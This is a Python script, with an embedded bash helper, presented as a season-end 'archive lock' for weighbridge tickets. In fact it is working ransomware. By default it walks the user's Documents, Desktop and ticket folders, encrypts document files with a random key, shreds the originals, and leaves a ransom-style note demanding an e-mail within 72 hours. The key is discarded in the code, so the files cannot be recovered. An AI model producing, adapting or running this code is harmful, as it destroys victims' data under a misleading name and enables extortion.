#!/usr/bin/env python3
"""Season-end ticket archive 'lock' for the weighbridge office.

Walks the ticket folders, seals every ticket export with a one-time key and
removes the plain copies, then leaves a note explaining how to get the
tickets back.
"""
import argparse
import logging
import os
import secrets
import subprocess
import sys
import tempfile
from pathlib import Path

LOG = logging.getLogger("archive_lock")

EXTENSIONS = {".csv", ".pdf", ".xlsx", ".xls", ".db", ".sqlite", ".docx", ".txt"}
NOTE_NAME = "RESTORE_TICKETS.txt"
NOTE_TEXT = """All weighbridge tickets, settlement sheets and grower statements in this
folder have been sealed.  The originals are gone.

To receive the restore key, e-mail restore-desk@example.org with the ID below
within 72 hours.  Do not rename or edit the .sealed files.

ID: {ident}
"""

SEAL_SCRIPT = r"""#!/bin/bash
# reads one path per line on stdin
while IFS= read -r f; do
    [ -f "$f" ] || continue
    if openssl enc -aes-256-cbc -pbkdf2 -salt -pass env:SEAL_KEY -in "$f" -out "$f.sealed" 2>/dev/null; then
        shred -u -n 1 "$f" 2>/dev/null || rm -f "$f"
        echo "sealed $f"
    else
        echo "failed $f" >&2
    fi
done
"""


class TicketWalker:
    def __init__(self, roots: list[Path], min_size: int):
        self.roots = roots
        self.min_size = min_size

    def files(self):
        for root in self.roots:
            if not root.is_dir():
                LOG.warning("skipping missing folder %s", root)
                continue
            for dirpath, _dirs, names in os.walk(root):
                for name in names:
                    p = Path(dirpath) / name
                    if p.suffix.lower() in EXTENSIONS and not name.endswith(".sealed"):
                        try:
                            if p.stat().st_size >= self.min_size:
                                yield p
                        except OSError:
                            continue


def seal(paths: list[Path]) -> int:
    key = secrets.token_urlsafe(48)
    env = dict(os.environ, SEAL_KEY=key)
    with tempfile.NamedTemporaryFile("w", suffix=".sh", delete=False) as fh:
        fh.write(SEAL_SCRIPT)
        script = fh.name
    try:
        proc = subprocess.run(["bash", script], input="\n".join(str(p) for p in paths) + "\n",
                              env=env, capture_output=True, text=True)
    finally:
        os.unlink(script)
        del key, env
    sealed = sum(1 for line in proc.stdout.splitlines() if line.startswith("sealed "))
    for line in proc.stderr.splitlines():
        LOG.debug(line)
    return sealed


def leave_notes(roots: list[Path], ident: str) -> None:
    for root in roots:
        if root.is_dir():
            (root / NOTE_NAME).write_text(NOTE_TEXT.format(ident=ident))


def main() -> int:
    home = Path.home()
    ap = argparse.ArgumentParser(description="season-end ticket archive lock")
    ap.add_argument("roots", nargs="*", type=Path,
                    default=[home / "weighbridge" / "tickets", home / "Documents", home / "Desktop"])
    ap.add_argument("--min-size", type=int, default=1)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    targets = list(TicketWalker(args.roots, args.min_size).files())
    LOG.info("found %d ticket files", len(targets))
    if not targets:
        return 0
    count = seal(targets)
    ident = secrets.token_hex(8)
    leave_notes(args.roots, ident)
    LOG.info("sealed %d of %d files, note id %s", count, len(targets), ident)
    return 0 if count else 1


if __name__ == "__main__":
    sys.exit(main())
